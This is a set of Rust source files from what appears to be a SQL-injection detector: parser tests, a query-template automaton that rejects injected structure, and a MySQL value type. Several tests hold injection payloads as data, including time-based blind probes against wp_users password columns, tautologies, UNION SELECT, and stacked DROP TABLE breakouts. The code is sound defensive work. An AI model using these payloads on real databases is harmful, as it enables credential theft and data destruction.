        assert_eq!(i.rows.len(), 2);
    }

    #[test]
    fn update_and_delete() {
        assert!(matches!(
            parse("UPDATE t SET a = 1, b = 'x' WHERE id = 3").unwrap(),
            Statement::Update(_)
        ));
        assert!(matches!(
            parse("DELETE FROM t WHERE id = 3 LIMIT 1").unwrap(),
            Statement::Delete(_)
        ));
    }

    #[test]
    fn functions_and_aggregates() {
        let s = sel("SELECT COUNT(DISTINCT user_id), CONCAT(a, 'x'), SLEEP(5) FROM t");
        match &s.projections[0] {
            Projection::Expr { expr: Expr::Function { name, distinct, .. }, .. } => {
                assert_eq!(name, "COUNT");
                assert!(*distinct);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn count_star() {
        let s = sel("SELECT COUNT(*) FROM t");
        match &s.projections[0] {
            Projection::Expr { expr: Expr::Function { args, .. }, .. } => {
                assert_eq!(args, &[Expr::Wildcard]);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn in_between_like_is() {
        sel("SELECT * FROM t WHERE a IN (1, 2, 3)");
        sel("SELECT * FROM t WHERE a NOT IN ('x')");
        sel("SELECT * FROM t WHERE a BETWEEN 1 AND 5");
        sel("SELECT * FROM t WHERE a LIKE '%foo%'");
        sel("SELECT * FROM t WHERE a IS NOT NULL");
        sel("SELECT * FROM t WHERE a IN (SELECT id FROM u)");
    }

    #[test]
    fn case_expression() {
        sel("SELECT CASE WHEN a = 1 THEN 'one' ELSE 'many' END FROM t");
        sel("SELECT CASE a WHEN 1 THEN 'one' WHEN 2 THEN 'two' END FROM t");
    }

    #[test]
    fn subqueries() {
        sel("SELECT (SELECT MAX(id) FROM u) FROM t");
        sel("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.t = t.id)");
    }

    #[test]
    fn string_escapes() {
        let s = sel(r#"SELECT 'it\'s', 'a''b', "dq""#);
        let lits: Vec<Value> = s
            .projections
            .iter()
            .map(|p| match p {
                Projection::Expr { expr: Expr::Literal(v), .. } => v.clone(),
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(lits[0], Value::Str("it's".into()));
        assert_eq!(lits[1], Value::Str("a'b".into()));
        assert_eq!(lits[2], Value::Str("dq".into()));
    }

    #[test]
    fn hex_literal_decodes_to_string() {
        let s = sel("SELECT 0x61646D696E");
        match &s.projections[0] {
            Projection::Expr { expr: Expr::Literal(Value::Str(s)), .. } => assert_eq!(s, "admin"),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn comments_skipped() {
        sel("SELECT /* inline */ * FROM t -- trailing");
        sel("SELECT * FROM t # hash comment");
    }

    #[test]
    fn negative_numbers() {
        let s = sel("SELECT * FROM t WHERE id = -1");
        match s.where_clause.unwrap() {
            Expr::Binary { right, .. } => {
                assert!(matches!(*right, Expr::Unary { op: UnaryOp::Neg, .. }));
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn errors() {
        assert!(parse("").is_err());
        assert!(parse("SELEC * FROM t").is_err());
        assert!(parse("SELECT * FROM").is_err());
        assert!(parse("SELECT * FROM t WHERE").is_err());
        assert!(parse("SELECT 'unterminated").is_err());
        assert!(parse("SELECT * FROM t extra garbage ( (").is_err());
        assert!(parse("DROP TABLE users").is_err());
    }

    #[test]
    fn trailing_semicolon_ok() {
        sel("SELECT 1;");
    }

    #[test]
    fn sleep_benchmark_double_blind_payloads() {
        sel("SELECT * FROM t WHERE id=1 AND SLEEP(5)");
        sel("SELECT * FROM t WHERE id=1 AND BENCHMARK(1000000, MD5('x'))");
        sel("SELECT IF(SUBSTRING(user_pass,1,1)='a', SLEEP(2), 0) FROM wp_users");
    }

    #[test]
    fn error_offsets_point_into_source() {
        let q = "SELECT * FROM t WHERE ???bogus";
        let err = parse(q).unwrap_err();
        assert!(err.offset <= q.len());
        assert!(!err.to_string().is_empty());
    }

    #[test]
    fn replace_into_as_insert() {
        assert!(matches!(parse("REPLACE INTO t (a) VALUES (1)").unwrap(), Statement::Insert(_)));
    }

    #[test]
    fn quoted_identifiers_stripped() {
        let s = sel("SELECT `ID` FROM `wp_posts`");
        assert_eq!(s.from.as_ref().unwrap().name, "wp_posts");
    }
}
