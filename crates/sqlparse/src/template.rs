//! Query templates and skeleton automata — the static query-model layer.
//!
//! Joza's dynamic detectors (NTI/PTI) infer taint per request; this module
//! adds the complementary *static* view in the SQLBlock/ASSIST tradition:
//! the legal query **structures** an application can emit at each sink are
//! derivable from source before any traffic arrives. A
//! [`QueryTemplate`] is a sink-site string-construction summary — literal
//! fragments kept verbatim, request-derived values marked as [`TemplatePart::Hole`]s,
//! loop-built fragments as bounded [`TemplatePart::Rep`]etitions. Templates compile to a
//! [`SkeletonAutomaton`] over the same token normalization as
//! [`crate::fingerprint::skeleton`], and a [`QueryModelIndex`] maps each
//! endpoint to the union automaton of its sinks.
//!
//! # Compilation by probe substitution
//!
//! A template is compiled by substituting a **probe literal** (`1`) for
//! every hole, lexing the resulting concrete query, and demanding that
//! each hole's byte range lies inside a single *data-literal* token
//! (number or string). A hole that satisfies this can only ever
//! contribute literal content to exactly one token at runtime — so a
//! value that injects additional tokens (a `UNION`, a tautology, a
//! comment, a quote breakout) necessarily changes the skeleton and falls
//! off the automaton. Repetition regions must align exactly with token
//! boundaries; anything else rejects the template (the site then simply
//! stays on the dynamic path — rejection is always sound).

use crate::fingerprint::{raw_skeleton_syms, render_token_sym};
use crate::lexer::lex;
use crate::symbol::{intern, SymId};
use std::collections::BTreeMap;
use std::fmt;
use std::ops::Range;

/// One element of a statically inferred query template.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum TemplatePart {
    /// A literal source fragment, kept verbatim (`"SELECT * FROM t WHERE id="`).
    Lit(String),
    /// A request-derived (or otherwise unknown) value; at most one SQL
    /// data literal at runtime.
    Hole,
    /// A loop-built fragment repeated zero or more times (e.g. the tail of
    /// an `implode`d list). Nested repetitions are rejected at compile
    /// time.
    Rep(Vec<TemplatePart>),
}

/// A statically inferred query shape for one sink call site: an ordered
/// sequence of [`TemplatePart`]s.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Default)]
pub struct QueryTemplate {
    /// The template body, in emission order.
    pub parts: Vec<TemplatePart>,
}

impl QueryTemplate {
    /// A template that is a single literal query (no holes).
    pub fn lit(s: &str) -> Self {
        QueryTemplate { parts: vec![TemplatePart::Lit(s.to_string())] }
    }

    /// Renders the template with `value` substituted for every hole —
    /// the concrete query this template would emit for that input. Used
    /// by tests and the probe compiler.
    pub fn instantiate(&self, value: &str) -> String {
        fn walk(parts: &[TemplatePart], value: &str, out: &mut String) {
            for p in parts {
                match p {
                    TemplatePart::Lit(s) => out.push_str(s),
                    TemplatePart::Hole => out.push_str(value),
                    TemplatePart::Rep(body) => walk(body, value, out),
                }
            }
        }
        let mut out = String::new();
        walk(&self.parts, value, &mut out);
        out
    }
}

/// Why a template could not be compiled into an automaton branch. A
/// rejected template leaves its site on the dynamic path — never unsound,
/// only slower.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TemplateReject {
    /// A hole's probe did not land inside a single data-literal token —
    /// the runtime value could span or merge non-value structure.
    HoleNotValuePosition,
    /// A repetition region does not align with token boundaries (e.g. a
    /// loop builds up the inside of one string literal).
    RepMisaligned,
    /// `Rep` inside `Rep`; the bounded-regular domain stops at one level.
    NestedRep,
}

impl fmt::Display for TemplateReject {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            TemplateReject::HoleNotValuePosition => "hole outside a data-literal token",
            TemplateReject::RepMisaligned => "repetition not aligned to token boundaries",
            TemplateReject::NestedRep => "nested repetition",
        };
        f.write_str(s)
    }
}

/// One symbol of a compiled automaton branch. Token payloads are
/// interned [`SymId`]s (see [`crate::symbol`]), so matching a branch
/// against a query skeleton compares integers, never strings.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Sym {
    /// Exactly one skeleton token with this rendering.
    Tok(SymId),
    /// Zero or more repetitions of this skeleton-token sequence.
    Star(Vec<SymId>),
}

/// The literal substituted for holes when probing a template.
const PROBE: &str = "1";

struct Probe {
    text: String,
    holes: Vec<Range<usize>>,
    reps: Vec<Range<usize>>,
}

fn render_probe(t: &QueryTemplate) -> Result<Probe, TemplateReject> {
    fn walk(parts: &[TemplatePart], in_rep: bool, p: &mut Probe) -> Result<(), TemplateReject> {
        for part in parts {
            match part {
                TemplatePart::Lit(s) => p.text.push_str(s),
                TemplatePart::Hole => {
                    let start = p.text.len();
                    p.text.push_str(PROBE);
                    p.holes.push(start..p.text.len());
                }
                TemplatePart::Rep(body) => {
                    if in_rep {
                        return Err(TemplateReject::NestedRep);
                    }
                    let start = p.text.len();
                    walk(body, true, p)?;
                    p.reps.push(start..p.text.len());
                }
            }
        }
        Ok(())
    }
    let mut p = Probe { text: String::new(), holes: Vec::new(), reps: Vec::new() };
    walk(&t.parts, false, &mut p)?;
    Ok(p)
}

/// Compiles one template into an automaton branch: a linear symbol
/// sequence over skeleton tokens, with each repetition region as a
/// [`Sym::Star`] group.
pub fn compile_template(t: &QueryTemplate) -> Result<Vec<Sym>, TemplateReject> {
    let probe = render_probe(t)?;
    let tokens = lex(&probe.text);
    // Every hole must sit inside exactly one data-literal token.
    for h in &probe.holes {
        let ok =
            tokens.iter().any(|tk| tk.kind.is_literal() && tk.start <= h.start && h.end <= tk.end);
        if !ok {
            return Err(TemplateReject::HoleNotValuePosition);
        }
    }
    // Walk tokens in order, folding each rep region (already in source
    // order) into a star group that must cover whole tokens exactly.
    let mut syms = Vec::new();
    let mut reps = probe.reps.iter().peekable();
    let mut i = 0;
    while i < tokens.len() {
        let tk = &tokens[i];
        if let Some(rep) = reps.peek() {
            // An empty rep region (loop body could run zero times with no
            // text) contributes nothing; skip it once we're past it.
            if rep.start == rep.end && tk.start >= rep.end {
                reps.next();
                continue;
            }
            if tk.start >= rep.start && rep.start < rep.end {
                if tk.start != rep.start {
                    return Err(TemplateReject::RepMisaligned);
                }
                let mut body = Vec::new();
                let mut end_ok = false;
                while i < tokens.len() && tokens[i].start < rep.end {
                    if tokens[i].end > rep.end {
                        return Err(TemplateReject::RepMisaligned);
                    }
                    body.push(render_token_sym(&probe.text, &tokens[i]));
                    end_ok = tokens[i].end == rep.end;
                    i += 1;
                }
                if !end_ok || body.is_empty() {
                    return Err(TemplateReject::RepMisaligned);
                }
                reps.next();
                syms.push(Sym::Star(body));
                continue;
            }
            if tk.end > rep.start && rep.start < rep.end {
                // Token overlaps into the rep region from the left.
                return Err(TemplateReject::RepMisaligned);
            }
        }
        syms.push(Sym::Tok(render_token_sym(&probe.text, tk)));
        i += 1;
    }
    Ok(syms)
}

/// A union of compiled template branches for one endpoint: accepts a
/// query iff its raw skeleton token sequence matches some branch.
#[derive(Debug, Clone, Default)]
pub struct SkeletonAutomaton {
    branches: Vec<Vec<Sym>>,
}

impl SkeletonAutomaton {
    /// Adds one compiled branch.
    pub fn push_branch(&mut self, syms: Vec<Sym>) {
        self.branches.push(syms);
    }

    /// Number of template branches in the union.
    pub fn branches(&self) -> usize {
        self.branches.len()
    }

    /// Whether `query`'s raw skeleton token sequence matches any branch.
    pub fn accepts(&self, query: &str) -> bool {
        self.accepts_syms(&raw_skeleton_syms(query))
    }

    /// [`SkeletonAutomaton::accepts`] over an already-rendered raw
    /// skeleton **symbol** sequence (see
    /// [`crate::fingerprint::raw_skeleton_syms`]) — the parse-once,
    /// allocation-free entry point for callers that cache the query's
    /// skeleton. Matching compares interned ids, so each step is one
    /// integer comparison.
    pub fn accepts_syms(&self, toks: &[SymId]) -> bool {
        if self.branches.is_empty() {
            return false;
        }
        self.branches.iter().any(|b| match_seq(b, toks))
    }

    /// [`SkeletonAutomaton::accepts_syms`] over string renderings (see
    /// [`crate::fingerprint::raw_skeleton_tokens`]); interns each token,
    /// so prefer the symbol entry point on hot paths.
    pub fn accepts_tokens(&self, toks: &[String]) -> bool {
        let syms: Vec<SymId> = toks.iter().map(|t| intern(t)).collect();
        self.accepts_syms(&syms)
    }
}

fn match_seq(syms: &[Sym], toks: &[SymId]) -> bool {
    match syms.first() {
        None => toks.is_empty(),
        Some(Sym::Tok(s)) => {
            toks.first().is_some_and(|t| t == s) && match_seq(&syms[1..], &toks[1..])
        }
        Some(Sym::Star(body)) => {
            let mut off = 0;
            loop {
                if match_seq(&syms[1..], &toks[off..]) {
                    return true;
                }
                let rest = &toks[off..];
                if rest.len() >= body.len() && rest.iter().zip(body.iter()).all(|(a, b)| a == b) {
                    off += body.len();
                } else {
                    return false;
                }
            }
        }
    }
}

/// The compiled query model for one endpoint (route).
#[derive(Debug, Clone, Default)]
pub struct RouteModel {
    automaton: SkeletonAutomaton,
    /// True iff *every* sink site on the route was statically modeled and
    /// every inferred template compiled. Only a complete model can treat
    /// a non-matching query as a structural anomaly — an incomplete one
    /// merely loses the fast path.
    pub complete: bool,
    /// Sink call sites seen on the route.
    pub sites: usize,
    /// Sites whose whole template set was inferred (not ⊤).
    pub modeled_sites: usize,
    /// Templates successfully compiled into the automaton.
    pub compiled: usize,
    /// Templates rejected by [`compile_template`].
    pub rejected: usize,
}

impl RouteModel {
    /// Builds a route model from per-site template sets; `None` marks a
    /// site whose construction the static domain could not bound (⊤).
    pub fn build(site_templates: &[Option<Vec<QueryTemplate>>]) -> RouteModel {
        let mut m =
            RouteModel { complete: true, sites: site_templates.len(), ..RouteModel::default() };
        for site in site_templates {
            match site {
                None => m.complete = false,
                Some(templates) => {
                    m.modeled_sites += 1;
                    for t in templates {
                        match compile_template(t) {
                            Ok(syms) => {
                                m.automaton.push_branch(syms);
                                m.compiled += 1;
                            }
                            Err(_) => {
                                m.rejected += 1;
                                m.complete = false;
                            }
                        }
                    }
                }
            }
        }
        if site_templates.is_empty() {
            // A route with no sinks emits no queries; any observed query
            // is out of model, but there is nothing to accept either.
            m.complete = false;
        }
        m
    }

    /// Whether the model's automaton accepts `query`.
    pub fn accepts(&self, query: &str) -> bool {
        self.automaton.accepts(query)
    }

    /// Whether the model's automaton accepts an already-rendered raw
    /// skeleton token sequence; interns each token — prefer
    /// [`RouteModel::accepts_syms`] on hot paths.
    pub fn accepts_tokens(&self, toks: &[String]) -> bool {
        self.automaton.accepts_tokens(toks)
    }

    /// Whether the model's automaton accepts an already-rendered raw
    /// skeleton **symbol** sequence (the parse-once, allocation-free
    /// entry point).
    pub fn accepts_syms(&self, toks: &[SymId]) -> bool {
        self.automaton.accepts_syms(toks)
    }

    /// Template branches in the union automaton.
    pub fn branches(&self) -> usize {
        self.automaton.branches()
    }
}

/// Per-endpoint query models, keyed by route name — the artifact
/// `sast::querymodel` produces and `joza-core` consumes.
///
/// Models are stored behind [`std::sync::Arc`] so a consumer can hand out
/// owned per-route handles ([`QueryModelIndex::get_arc`]) that outlive a
/// snapshot of the index itself — the property `joza-core`'s hot-swappable
/// deployment relies on: a session pins its route's model once and keeps
/// checking against it even if the engine swaps in a new index mid-run.
#[derive(Debug, Clone, Default)]
pub struct QueryModelIndex {
    routes: BTreeMap<String, std::sync::Arc<RouteModel>>,
}

impl QueryModelIndex {
    /// An empty index (every route stays fully dynamic).
    pub fn new() -> Self {
        QueryModelIndex::default()
    }

    /// Installs the model for `route`, replacing any previous one.
    pub fn insert(&mut self, route: &str, model: RouteModel) {
        self.routes.insert(route.to_string(), std::sync::Arc::new(model));
    }

    /// The model for `route`, if one was inferred.
    pub fn get(&self, route: &str) -> Option<&RouteModel> {
        self.routes.get(route).map(|m| m.as_ref())
    }

    /// An owned handle on the model for `route`: stays valid after the
    /// index is dropped or replaced.
    pub fn get_arc(&self, route: &str) -> Option<std::sync::Arc<RouteModel>> {
        self.routes.get(route).cloned()
    }

    /// Iterates `(route, model)` in route-name order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &RouteModel)> {
        self.routes.iter().map(|(k, v)| (k.as_str(), v.as_ref()))
    }

    /// Iterates route names in order.
    pub fn routes(&self) -> impl Iterator<Item = &str> {
        self.routes.keys().map(String::as_str)
    }

    /// Number of routes with a model.
    pub fn len(&self) -> usize {
        self.routes.len()
    }

    /// True if no routes have models.
    pub fn is_empty(&self) -> bool {
        self.routes.is_empty()
    }

    /// Routes whose model is [`RouteModel::complete`].
    pub fn complete_routes(&self) -> usize {
        self.routes.values().filter(|m| m.complete).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use TemplatePart::{Hole, Lit, Rep};

    fn tpl(parts: Vec<TemplatePart>) -> QueryTemplate {
        QueryTemplate { parts }
    }

    fn automaton(templates: &[QueryTemplate]) -> SkeletonAutomaton {
        let mut a = SkeletonAutomaton::default();
        for t in templates {
            a.push_branch(compile_template(t).expect("template must compile"));
        }
        a
    }

    #[test]
    fn literal_template_accepts_only_itself() {
        let a = automaton(&[QueryTemplate::lit("SELECT * FROM posts ORDER BY date")]);
        assert!(a.accepts("SELECT * FROM posts ORDER BY date"));
        assert!(a.accepts("select * from posts order by date"));
        assert!(!a.accepts("SELECT * FROM posts"));
    }

    #[test]
    fn numeric_hole_accepts_any_number_rejects_structure() {
        let t = tpl(vec![Lit("SELECT * FROM t WHERE id=".into()), Hole]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM t WHERE id=7"));
        assert!(a.accepts("SELECT * FROM t WHERE id=123456"));
        assert!(a.accepts("SELECT * FROM t WHERE id='abc'"));
        assert!(!a.accepts("SELECT * FROM t WHERE id=7 OR 1=1"));
        assert!(!a.accepts("SELECT * FROM t WHERE id=-1 UNION SELECT user()"));
        assert!(!a.accepts("SELECT * FROM t WHERE id=7 -- x"));
    }

    #[test]
    fn quoted_hole_accepts_string_rejects_breakout() {
        let t = tpl(vec![Lit("SELECT * FROM u WHERE name='".into()), Hole, Lit("'".into())]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM u WHERE name='bob'"));
        assert!(a.accepts("SELECT * FROM u WHERE name='O\\'Brien'"));
        assert!(!a.accepts("SELECT * FROM u WHERE name='x' OR 'a'='a'"));
        assert!(!a.accepts("SELECT * FROM u WHERE name='x'; DROP TABLE u"));
    }

    #[test]
    fn like_pattern_hole() {
        let t =
            tpl(vec![Lit("SELECT * FROM p WHERE title LIKE '%".into()), Hole, Lit("%'".into())]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM p WHERE title LIKE '%cats%'"));
        assert!(!a.accepts("SELECT * FROM p WHERE title LIKE '%x%' UNION SELECT user()"));
    }

    #[test]
    fn rep_matches_any_list_length_including_zero_tail() {
        // implode(",", $ids) after a leading element:  1 (, 1)*
        let t = tpl(vec![
            Lit("SELECT * FROM t WHERE id IN (".into()),
            Hole,
            Rep(vec![Lit(",".into()), Hole]),
            Lit(")".into()),
        ]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM t WHERE id IN (1)"));
        assert!(a.accepts("SELECT * FROM t WHERE id IN (1,2)"));
        assert!(a.accepts("SELECT * FROM t WHERE id IN (1,2,3,4,5)"));
        assert!(!a.accepts("SELECT * FROM t WHERE id IN (1,2) OR 1=1"));
        assert!(!a.accepts("SELECT * FROM t WHERE id IN (1,(SELECT user()))"));
    }

    #[test]
    fn loop_trailing_comma_rep() {
        // `foreach { $frag .= $id . "," }` inside IN (...)
        let t = tpl(vec![
            Lit("SELECT * FROM t WHERE id IN (".into()),
            Rep(vec![Hole, Lit(",".into())]),
            Lit("0)".into()),
        ]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM t WHERE id IN (0)"));
        assert!(a.accepts("SELECT * FROM t WHERE id IN (4,7,0)"));
        assert!(!a.accepts("SELECT * FROM t WHERE id IN (4,7,0) UNION SELECT 1"));
    }

    #[test]
    fn hole_merging_with_adjacent_digits_stays_one_token() {
        let t = tpl(vec![Lit("SELECT * FROM t LIMIT 1".into()), Hole]);
        let syms = compile_template(&t).expect("merged numeric probe compiles");
        // `1` + probe `1` lex as the single number `11` → one hole symbol.
        assert_eq!(syms.last(), Some(&Sym::Tok(crate::symbol::SYM_HOLE)));
    }

    #[test]
    fn hole_in_identifier_position_rejected() {
        // Probe glues onto the identifier: `colname1` — not a value slot.
        let t = tpl(vec![Lit("SELECT * FROM t ORDER BY col".into()), Hole]);
        assert_eq!(compile_template(&t), Err(TemplateReject::HoleNotValuePosition));
    }

    #[test]
    fn bare_hole_after_keyword_is_value_position() {
        // `ORDER BY <n>` with a space: probe lexes as a number literal.
        let t = tpl(vec![Lit("SELECT * FROM t ORDER BY ".into()), Hole]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM t ORDER BY 2"));
        // An identifier there simply does not match the `?` symbol…
        assert!(!a.accepts("SELECT * FROM t ORDER BY name"));
        // …and injected structure certainly does not.
        assert!(!a.accepts("SELECT * FROM t ORDER BY 1; DROP TABLE t"));
    }

    #[test]
    fn rep_inside_string_literal_rejected() {
        let t = tpl(vec![
            Lit("SELECT * FROM t WHERE x='".into()),
            Rep(vec![Lit("a".into())]),
            Lit("'".into()),
        ]);
        assert_eq!(compile_template(&t), Err(TemplateReject::RepMisaligned));
    }

    #[test]
    fn nested_rep_rejected() {
        let t = tpl(vec![Rep(vec![Rep(vec![Lit("x".into())])])]);
        assert_eq!(compile_template(&t), Err(TemplateReject::NestedRep));
    }

    #[test]
    fn union_of_branches() {
        let a = automaton(&[
            QueryTemplate::lit("SELECT a FROM t"),
            tpl(vec![Lit("SELECT a FROM t WHERE id=".into()), Hole]),
        ]);
        assert!(a.accepts("SELECT a FROM t"));
        assert!(a.accepts("SELECT a FROM t WHERE id=9"));
        assert!(!a.accepts("SELECT b FROM t"));
    }

    #[test]
    fn route_model_completeness() {
        let modeled = Some(vec![QueryTemplate::lit("SELECT 1")]);
        let top: Option<Vec<QueryTemplate>> = None;
        let complete = RouteModel::build(std::slice::from_ref(&modeled));
        assert!(complete.complete);
        assert_eq!(complete.compiled, 1);
        let partial = RouteModel::build(&[modeled.clone(), top]);
        assert!(!partial.complete);
        assert!(partial.accepts("SELECT 1"));
        let rejected = RouteModel::build(&[Some(vec![tpl(vec![
            Lit("SELECT * FROM t ORDER BY col".into()),
            Hole,
        ])])]);
        assert!(!rejected.complete);
        assert_eq!(rejected.rejected, 1);
        let empty = RouteModel::build(&[]);
        assert!(!empty.complete);
    }

    #[test]
    fn index_round_trip() {
        let mut ix = QueryModelIndex::new();
        assert!(ix.is_empty());
        ix.insert("search", RouteModel::build(&[Some(vec![QueryTemplate::lit("SELECT 1")])]));
        assert_eq!(ix.len(), 1);
        assert_eq!(ix.complete_routes(), 1);
        assert!(ix.get("search").unwrap().accepts("SELECT 1"));
        assert!(ix.get("missing").is_none());
        assert_eq!(ix.iter().count(), 1);
    }

    #[test]
    fn instantiate_renders_holes() {
        let t = tpl(vec![Lit("id=".into()), Hole, Lit(" AND x=".into()), Hole]);
        assert_eq!(t.instantiate("5"), "id=5 AND x=5");
    }

    #[test]
    fn automaton_matches_uncollapsed_tokens() {
        // The fingerprint collapse pass must NOT leak into automaton
        // matching: a two-element IN list is two `?` tokens here.
        let t = tpl(vec![Lit("SELECT * FROM t WHERE id IN (1,2)".into())]);
        let a = automaton(&[t]);
        assert!(a.accepts("SELECT * FROM t WHERE id IN (3,4)"));
        assert!(!a.accepts("SELECT * FROM t WHERE id IN (3)"));
    }
}
