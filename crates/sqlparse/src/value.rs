//! SQL runtime values shared by the parser's literal nodes and the
//! in-memory database engine.

use std::cmp::Ordering;
use std::fmt;

/// A SQL value: the dynamic type flowing through expression evaluation.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// SQL `NULL`.
    Null,
    /// A 64-bit integer.
    Int(i64),
    /// A double-precision float.
    Float(f64),
    /// A string (MySQL's VARCHAR/TEXT family, un-escaped).
    Str(String),
}

impl Value {
    /// MySQL-style truthiness: `NULL` and zero are false, everything else
    /// true. Strings coerce through their numeric prefix, so `'1x'` is
    /// true and `'abc'` is false — the coercion SQLi tautologies rely on.
    ///
    /// # Examples
    ///
    /// ```
    /// use joza_sqlparse::Value;
    ///
    /// assert!(Value::Int(1).is_truthy());
    /// assert!(!Value::Int(0).is_truthy());
    /// assert!(!Value::Null.is_truthy());
    /// assert!(!Value::Str("abc".into()).is_truthy());
    /// assert!(Value::Str("1".into()).is_truthy());
    /// ```
    pub fn is_truthy(&self) -> bool {
        match self {
            Value::Null => false,
            Value::Int(i) => *i != 0,
            Value::Float(f) => *f != 0.0,
            Value::Str(s) => numeric_prefix(s) != 0.0,
        }
    }

    /// Coerces to a float the way MySQL does in numeric context.
    pub fn as_f64(&self) -> f64 {
        match self {
            Value::Null => 0.0,
            Value::Int(i) => *i as f64,
            Value::Float(f) => *f,
            Value::Str(s) => numeric_prefix(s),
        }
    }

    /// Coerces to an integer (truncating).
    pub fn as_i64(&self) -> i64 {
        match self {
            Value::Int(i) => *i,
            other => other.as_f64() as i64,
        }
    }

    /// Renders the value as MySQL would in a string context. `NULL`
    /// becomes the empty string (callers that need the literal `NULL`
    /// should check [`Value::is_null`] first).
    pub fn as_str(&self) -> String {
        match self {
            Value::Null => String::new(),
            Value::Int(i) => i.to_string(),
            Value::Float(f) => format_float(*f),
            Value::Str(s) => s.clone(),
        }
    }

    /// Whether this value is SQL `NULL`.
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    /// MySQL comparison semantics: `NULL` compares as unknown (`None`);
    /// number-vs-string comparisons coerce to numbers; string-vs-string is
    /// case-insensitive (MySQL's default collation).
    pub fn compare(&self, other: &Value) -> Option<Ordering> {
        match (self, other) {
            (Value::Null, _) | (_, Value::Null) => None,
            (Value::Str(a), Value::Str(b)) => {
                Some(a.to_ascii_lowercase().cmp(&b.to_ascii_lowercase()))
            }
            _ => self.as_f64().partial_cmp(&other.as_f64()),
        }
    }

    /// SQL equality (`=`), three-valued: `None` means unknown (NULL).
    pub fn sql_eq(&self, other: &Value) -> Option<bool> {
        self.compare(other).map(|o| o == Ordering::Equal)
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::Null => f.write_str("NULL"),
            other => f.write_str(&other.as_str()),
        }
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Self {
        Value::Int(v)
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Self {
        Value::Float(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Self {
        Value::Str(v.to_string())
    }
}

impl From<String> for Value {
    fn from(v: String) -> Self {
        Value::Str(v)
    }
}

impl From<bool> for Value {
    fn from(v: bool) -> Self {
        Value::Int(i64::from(v))
    }
}

/// Parses the leading numeric prefix of a string, MySQL-style.
/// `"42abc"` → 42.0, `"  3.5"` → 3.5, `"abc"` → 0.0.
fn numeric_prefix(s: &str) -> f64 {
    let t = s.trim_start();
    let bytes = t.as_bytes();
    let mut end = 0;
    let mut seen_digit = false;
    let mut seen_dot = false;
    while end < bytes.len() {
        let b = bytes[end];
        if b.is_ascii_digit() {
            seen_digit = true;
        } else if (b == b'-' || b == b'+') && end == 0 {
            // sign is fine at the start
        } else if b == b'.' && !seen_dot {
            seen_dot = true;
        } else {
            break;
        }
        end += 1;
    }
    if !seen_digit {
        return 0.0;
    }
    t[..end].parse().unwrap_or(0.0)
}

fn format_float(f: f64) -> String {
    if f == f.trunc() && f.abs() < 1e15 {
        format!("{}", f as i64)
    } else {
        format!("{f}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn truthiness_matches_mysql() {
        assert!(Value::Str("1 OR junk".into()).is_truthy());
        assert!(Value::Float(0.5).is_truthy());
        assert!(!Value::Str("".into()).is_truthy());
        assert!(!Value::Float(0.0).is_truthy());
    }

    #[test]
    fn numeric_prefix_coercion() {
        assert_eq!(Value::Str("42abc".into()).as_f64(), 42.0);
        assert_eq!(Value::Str("-3.5x".into()).as_f64(), -3.5);
        assert_eq!(Value::Str("abc".into()).as_f64(), 0.0);
        assert_eq!(Value::Str("  7".into()).as_f64(), 7.0);
    }

    #[test]
    fn null_comparisons_are_unknown() {
        assert_eq!(Value::Null.sql_eq(&Value::Int(1)), None);
        assert_eq!(Value::Int(1).compare(&Value::Null), None);
    }

    #[test]
    fn mixed_comparisons_coerce() {
        assert_eq!(Value::Str("5".into()).sql_eq(&Value::Int(5)), Some(true));
        assert_eq!(Value::Int(1).sql_eq(&Value::Str("1 OR 1".into())), Some(true));
    }

    #[test]
    fn string_comparison_case_insensitive() {
        assert_eq!(Value::Str("Admin".into()).sql_eq(&Value::Str("admin".into())), Some(true));
    }

    #[test]
    fn display_and_as_str() {
        assert_eq!(Value::Null.to_string(), "NULL");
        assert_eq!(Value::Null.as_str(), "");
        assert_eq!(Value::Int(7).to_string(), "7");
        assert_eq!(Value::Float(2.0).as_str(), "2");
        assert_eq!(Value::Float(2.5).as_str(), "2.5");
    }

    #[test]
    fn conversions() {
        assert_eq!(Value::from(true), Value::Int(1));
        assert_eq!(Value::from("x"), Value::Str("x".into()));
        assert_eq!(Value::from(3i64).as_i64(), 3);
    }
}
