//! Query structure fingerprints — the paper's *query structure cache* key.
//!
//! §IV-C1/§VI-A: "the query structure cache caches abstract syntax trees of
//! parsed queries without storing contents of data nodes". A fingerprint is
//! a hash of the token structure of a query with every data literal erased.
//! Two queries share a fingerprint exactly when they differ only in literal
//! *contents*; any injected token (keyword, operator, comment, or an escape
//! out of a string) changes the structure and therefore the fingerprint.
//!
//! The caches in `joza-pti` use fingerprints so that a write query like
//! `INSERT INTO comments VALUES ('…user text…')` only pays full analysis
//! once per *shape*, not once per comment.

use crate::lexer::lex;
use crate::token::TokenKind;
use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};

/// Renders the structural skeleton of a query: every token in order, with
